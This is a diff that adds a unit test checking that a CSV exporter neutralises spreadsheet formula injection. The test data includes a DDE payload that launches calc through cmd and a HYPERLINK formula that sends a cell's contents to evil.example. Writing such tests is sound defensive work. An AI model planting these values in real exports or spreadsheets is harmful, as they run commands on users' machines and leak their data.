@@ -64,6 +64,31 @@ describe('published data', () => {
     expect(lines.at(-1)).toBe('');
   });
 
+  it('quotes text a spreadsheet would run as a formula, and keeps numbers numbers', () => {
+    const hostile = {
+      ...tricky,
+      name: '@SUM(1+1)*cmd|" /C calc"!A0',
+      city: '+Frankfurt',
+      lon: -8.68,
+      events: [
+        {
+          ...tricky.events[0]!,
+          note: '=HYPERLINK("https://evil.example/?"&A1,"Click for sources")',
+        },
+      ],
+    };
+    const row = toCsv([hostile]).split('\r\n')[1]!;
+    expect(row).toContain(`,"'@SUM(1+1)*cmd|"" /C calc""!A0","'+Frankfurt",DE,50.11,-8.68,`);
+    expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click for sources"")",`);
+    for (const start of ['-', '\t', '\r']) {
+      const cell = toCsv([{ ...tricky, city: `${start}x` }])
+        .split('\r\n')
+        .slice(1)
+        .join('\r\n');
+      expect(cell).toContain(`,"'${start}x",`);
+    }
+  });
+
   it('writes RFC 7946 GeoJSON: one Point per region, longitude first', () => {
     const geojson = toGeoJson(REGIONS);
     expect(geojson.type).toBe('FeatureCollection');
